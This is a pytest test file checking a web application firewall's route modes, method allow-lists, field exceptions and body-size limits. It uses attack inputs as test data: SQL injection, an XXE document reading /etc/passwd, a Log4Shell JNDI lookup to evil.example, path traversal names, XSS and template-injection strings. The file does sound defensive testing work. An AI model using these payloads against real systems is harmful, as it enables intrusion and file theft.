"""What the config decides: detection-only and off routes, method allow-lists, exceptions
per route and per field, and how bodies are read within their budget."""

from __future__ import annotations

import json

import pytest
from waf_support import FORM, JSON, Case, decision, form_body, json_body, load_data, place, send

pytest_plugins = ("waf_support",)

SQLI = "1' UNION SELECT password FROM users--"
XXE_GPX = (
    '<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<gpx version="1.1"><trk><name>&x;</name></trk></gpx>'
)


def gpx_request(route: str, description: str, *, points: int = 10) -> Case:
    track = "".join(
        f'<trkpt lat="48.{i:04d}" lon="2.{i:04d}"><ele>35</ele></trkpt>' for i in range(points)
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8"?><gpx version="1.1" creator="test" '
        'xmlns="http://www.topografix.com/GPX/1/1"><trk><name>Morning</name>'
        f"<desc>{description}</desc><trkseg>{track}</trkseg></trk></gpx>"
    )
    return Case(
        "benign",
        "gpx",
        "POST",
        f"/{route}/runs/import",
        "filename=run.gpx",
        {"Content-Type": "application/octet-stream"},
        document.encode(),
    )


# --- modes ----------------------------------------------------------------------------


def test_a_detection_only_route_lets_the_attack_through_and_records_it(waf_with, http) -> None:
    server = waf_with({"routes": {"api": {"mode": "detect"}}, "log_level": "warn"})

    response = send(http, server, place("sqli", "d", SQLI, "json", route="api"))

    assert response.status_code == 200
    verdict = decision(response)
    assert verdict["action"] == "detect"
    assert verdict["score"] >= 5
    assert "200100" in verdict["rules"]
    assert "waf detect route=api" in server.error_log()


def test_detection_only_on_one_route_leaves_the_others_blocking(waf_with, http) -> None:
    server = waf_with({"routes": {"api": {"mode": "detect"}}})
    assert send(http, server, place("sqli", "b", SQLI, "json", route="web")).status_code == 403


def test_an_off_route_skips_signatures_but_keeps_its_method_list(waf_with, http) -> None:
    server = waf_with({"routes": {"assets": {"mode": "off"}}})

    passed = send(
        http, server, place("xss", "o", "<script>alert(1)</script>", "query", route="assets")
    )
    refused = http.post(server.url("/assets/app.js"), timeout=5)

    assert passed.status_code == 200
    assert decision(passed) == {"action": "pass", "score": 0, "rules": {}, "mode": "off"}
    assert refused.status_code == 405


def test_a_score_below_the_threshold_passes_with_its_rules_recorded(waf, http) -> None:
    # alert( alone is a warning (3): not an attack by itself.
    response = send(http, waf, place("benign", "w", "alert(1)", "query"))

    assert response.status_code == 200
    assert decision(response)["action"] == "pass"
    assert decision(response)["score"] == 3
    assert decision(response)["rules"] == ["210141"]


def test_a_higher_threshold_lets_single_warnings_and_criticals_through(waf_with, http) -> None:
    server = waf_with({"threshold": 10})
    response = send(http, server, place("xss", "t", "<iframe src=//x>", "query"))
    assert response.status_code == 200
    assert decision(response)["score"] == 5


# --- methods --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("route", "method", "allow"),
    [
        ("assets", "POST", "GET, HEAD"),
        ("token", "DELETE", "GET, HEAD, POST, OPTIONS"),
        ("upload", "GET", "POST, PUT, OPTIONS"),
        ("webhook", "PUT", "GET, POST"),
    ],
)
def test_a_method_outside_the_routes_list_is_refused_with_405(
    waf, http, route, method, allow
) -> None:
    response = http.request(method, waf.url(f"/{route}/x"), timeout=5)

    assert response.status_code == 405
    assert response.headers["Allow"] == allow
    body = response.json()
    assert body["code"] == "method_not_allowed"
    assert allow in body["message"]
    assert body["request_id"]


def test_an_allowed_method_passes(waf, http) -> None:
    assert http.options(waf.url("/token/x"), timeout=5).status_code == 200


# --- exceptions -----------------------------------------------------------------------


@pytest.mark.parametrize("password", load_data("waf_benign.json")["passwords"])
def test_a_password_field_may_hold_any_symbols(waf, http, password) -> None:
    case = Case(
        "benign",
        "p",
        "POST",
        "/login/",
        headers=dict(FORM),
        body=form_body({"email": "a@example.com", "password": password}),
    )
    assert send(http, waf, case).status_code == 200


def test_the_same_text_outside_a_password_field_is_blocked(waf, http) -> None:
    form = Case(
        "sqli",
        "e",
        "POST",
        "/login/",
        headers=dict(FORM),
        body=form_body({"email": "x' or '1'='1", "password": "x"}),
    )
    query = Case(
        "sqli",
        "q",
        "POST",
        "/login/",
        query="password=x%27%20or%20%271%27%3D%271",
        headers=dict(FORM),
        body=b"email=a",
    )
    assert send(http, waf, form).status_code == 403
    assert send(http, waf, query).status_code == 403  # the exception covers bodies only


def test_password_fields_are_still_checked_for_log4shell(waf, http) -> None:
    case = Case(
        "jndi",
        "j",
        "POST",
        "/login/",
        headers=dict(JSON),
        body=json_body({"password": "${jndi:ldap://evil.example/a}"}),
    )
    assert send(http, waf, case).status_code == 403


def test_a_loopback_redirect_uri_is_allowed_on_the_token_route_only(waf, http) -> None:
    fields = {
        "grant_type": "authorization_code",
        "code": "abc",
        "redirect_uri": "http://localhost:5000/strava/callback",
    }
    token = Case("benign", "t", "POST", "/token/", headers=dict(FORM), body=form_body(fields))
    web = Case("ssrf", "w", "POST", "/web/settings", headers=dict(FORM), body=form_body(fields))

    assert send(http, waf, token).status_code == 200
    assert send(http, waf, web).status_code == 403


def test_a_gpx_upload_is_checked_for_xxe_but_not_for_sql_in_its_text(waf, http) -> None:
    text = "select your best' or 1=1-- union select run; <script>"
    upload = send(http, waf, gpx_request("upload", text))
    elsewhere = send(http, waf, gpx_request("api", text))
    xxe = send(
        http,
        waf,
        Case(
            "xxe",
            "x",
            "POST",
            "/upload/runs/import",
            "filename=run.gpx",
            {"Content-Type": "application/gpx+xml"},
            XXE_GPX.encode(),
        ),
    )

    assert upload.status_code == 200
    assert elsewhere.status_code == 403
    assert xxe.status_code == 403
    assert {"270100", "270110"} <= set(xxe.json()["rules"])


def test_a_gpx_upload_name_is_still_checked_for_traversal(waf, http) -> None:
    case = gpx_request("upload", "ok")
    case.query = "filename=..%2F..%2Fetc%2Fpasswd"
    assert send(http, waf, case).status_code == 403


def test_polyline_fields_are_not_read_as_shell_or_templates(waf, http) -> None:
    line = "_p~iF~ps|U`ls`{{ab.cd()}}|id|"
    polyline = Case(
        "benign",
        "p",
        "POST",
        "/api/runs",
        headers=dict(JSON),
        body=json_body({"map": {"summary_polyline": line}}),
    )
    title = Case(
        "cmdi", "t", "POST", "/api/runs", headers=dict(JSON), body=json_body({"title": line})
    )

    assert send(http, waf, polyline).status_code == 200
    assert send(http, waf, title).status_code == 403


def test_an_exception_added_as_data_applies_to_its_route_field_and_rules_only(
    waf_with, http
) -> None:
    server = waf_with(
        {
            "exceptions": [
                {
                    "id": "bio-html",
                    "routes": ["web"],
                    "fields": ["bio"],
                    "rules": ["210110"],
                    "reason": "test: the bio is sanitised by the app",
                },
            ]
        }
    )
    bio = "<b onmouseover=x>hi</b>"

    def post(route: str, field: str) -> int:
        case = Case(
            "xss",
            "x",
            "POST",
            f"/{route}/profile",
            headers=dict(JSON),
            body=json_body({field: bio}),
        )
        return send(http, server, case).status_code

    assert post("web", "bio") == 200
    assert post("web", "name") == 403
    assert post("api", "bio") == 403


# --- bodies ---------------------------------------------------------------------------


def padded_json(payload: str, padding: int, *, payload_first: bool) -> bytes:
    filler = "Easy long run along the river. " * (padding // 31)
    fields = [("notes", payload), ("diary", filler)]
    return json_body(dict(fields if payload_first else fields[::-1]))


def test_a_body_spooled_to_disk_within_the_budget_is_inspected(waf, http) -> None:
    # The test server buffers 16 KiB in memory; the api route inspects 256 KiB.
    body = padded_json("<script>alert(1)</script>", 60_000, payload_first=False)
    response = send(http, waf, Case("xss", "s", "POST", "/api/runs", headers=dict(JSON), body=body))
    assert response.status_code == 403


def test_a_benign_body_spooled_to_disk_passes(waf, http) -> None:
    body = padded_json("Parkrun's 5k <3", 60_000, payload_first=False)
    response = send(
        http, waf, Case("benign", "s", "POST", "/api/runs", headers=dict(JSON), body=body)
    )
    assert response.status_code == 200


@pytest.mark.parametrize(("first", "status"), [(True, 403), (False, 200)])
def test_an_oversized_body_has_its_head_inspected(waf_with, http, first, status) -> None:
    server = waf_with(
        {"routes": {"web": {"body": {"max_inspect_bytes": 4096, "oversize": "inspect_head"}}}}
    )
    body = padded_json("<script>alert(1)</script>", 20_000, payload_first=first)

    response = send(
        http, server, Case("xss", "h", "POST", "/web/runs", headers=dict(JSON), body=body)
    )

    assert response.status_code == status
    if status == 200:
        assert decision(response)["note"] == "truncated"


def test_an_oversized_body_is_refused_with_413_where_the_route_says_so(waf_with, http) -> None:
    server = waf_with(
        {"routes": {"web": {"body": {"max_inspect_bytes": 4096, "oversize": "reject"}}}}
    )
    big = padded_json("Parkrun", 20_000, payload_first=True)
    small = json_body({"notes": "Parkrun's 5k"})

    refused = send(
        http, server, Case("benign", "b", "POST", "/web/runs", headers=dict(JSON), body=big)
    )
    accepted = send(
        http, server, Case("benign", "s", "POST", "/web/runs", headers=dict(JSON), body=small)
    )

    assert refused.status_code == 413
    assert refused.json()["code"] == "payload_too_large"
    assert "4096" in refused.json()["message"]
    assert accepted.status_code == 200


def test_an_oversized_body_passes_uninspected_where_the_route_skips_it(waf_with, http) -> None:
    server = waf_with(
        {"routes": {"web": {"body": {"max_inspect_bytes": 4096, "oversize": "skip"}}}}
    )
    big = padded_json("<script>alert(1)</script>", 20_000, payload_first=True)
    small = json_body({"notes": "<script>alert(1)</script>"})

    assert (
        send(
            http, server, Case("xss", "b", "POST", "/web/runs", headers=dict(JSON), body=big)
        ).status_code
        == 200
    )
    assert (
        send(
            http, server, Case("xss", "s", "POST", "/web/runs", headers=dict(JSON), body=small)
        ).status_code
        == 403
    )


def test_a_chunked_body_is_inspected(waf, http) -> None:
    def chunks():
        yield b'{"notes": "'
        yield b"<svg onload=alert(1)>"
        yield b'"}'

    response = http.post(waf.url("/web/runs"), data=chunks(), headers=dict(JSON), timeout=5)
    assert response.status_code == 403


def nested(depth: int, leaf: str) -> dict:
    document: dict = {"notes": leaf}
    for _ in range(depth):
        document = {"child": document}
    return document


@pytest.mark.parametrize(
    ("leaf", "status"), [("<script>alert(1)</script>", 403), ("Parkrun's 5k", 200)]
)
def test_json_deeper_than_the_budget_is_inspected_as_text(waf_with, http, leaf, status) -> None:
    server = waf_with({"body": {"max_depth": 8}})
    body = json_body(nested(20, leaf))

    response = send(
        http, server, Case("x", "d", "POST", "/web/runs", headers=dict(JSON), body=body)
    )

    assert response.status_code == status
    if status == 200:
        assert decision(response)["note"] == "json_budget"


def test_json_with_more_fields_than_the_budget_is_inspected_as_text(waf_with, http) -> None:
    server = waf_with({"body": {"max_fields": 50}})
    document = {f"split_{i}": f"{4 + i % 2}:{i % 60:02d}" for i in range(200)}
    document["zz"] = "{{7*7}}"
    response = send(
        http,
        server,
        Case("ssti", "f", "POST", "/web/runs", headers=dict(JSON), body=json_body(document)),
    )
    assert response.status_code == 403


def test_invalid_json_is_inspected_as_text(waf, http) -> None:
    body = b'{"notes": "<script>alert(1)</script>", oops'
    response = send(http, waf, Case("xss", "i", "POST", "/web/runs", headers=dict(JSON), body=body))
    assert response.status_code == 403


def test_multipart_fields_and_file_names_are_inspected(waf, http) -> None:
    field = http.post(
        waf.url("/web/profile"), files={"bio": (None, "<script>alert(1)</script>")}, timeout=5
    )
    name = http.post(
        waf.url("/web/avatar"),
        files={"avatar": ("../../etc/passwd", b"\x89PNG\x00\x00")},
        timeout=5,
    )
    photo = http.post(
        waf.url("/web/avatar"),
        files={"avatar": ("me.png", b"\x89PNG\x00\x00' or 1=1--")},
        timeout=5,
    )

    assert field.status_code == 403
    assert name.status_code == 403
    assert photo.status_code == 200  # binary parts are not read as text


def test_an_xml_file_in_a_multipart_upload_is_checked_for_xxe(waf, http) -> None:
    response = http.post(
        waf.url("/upload/import"),
        files={"file": ("run.gpx", XXE_GPX.encode(), "application/gpx+xml")},
        timeout=5,
    )
    assert response.status_code == 403
    assert "270100" in response.json()["rules"]


def test_the_decision_carries_the_mode(waf, http) -> None:
    response = send(http, waf, place("benign", "m", "Parkrun's 5k", "query"))
    assert json.loads(response.headers["X-WAF-Decision"])["mode"] == "block"
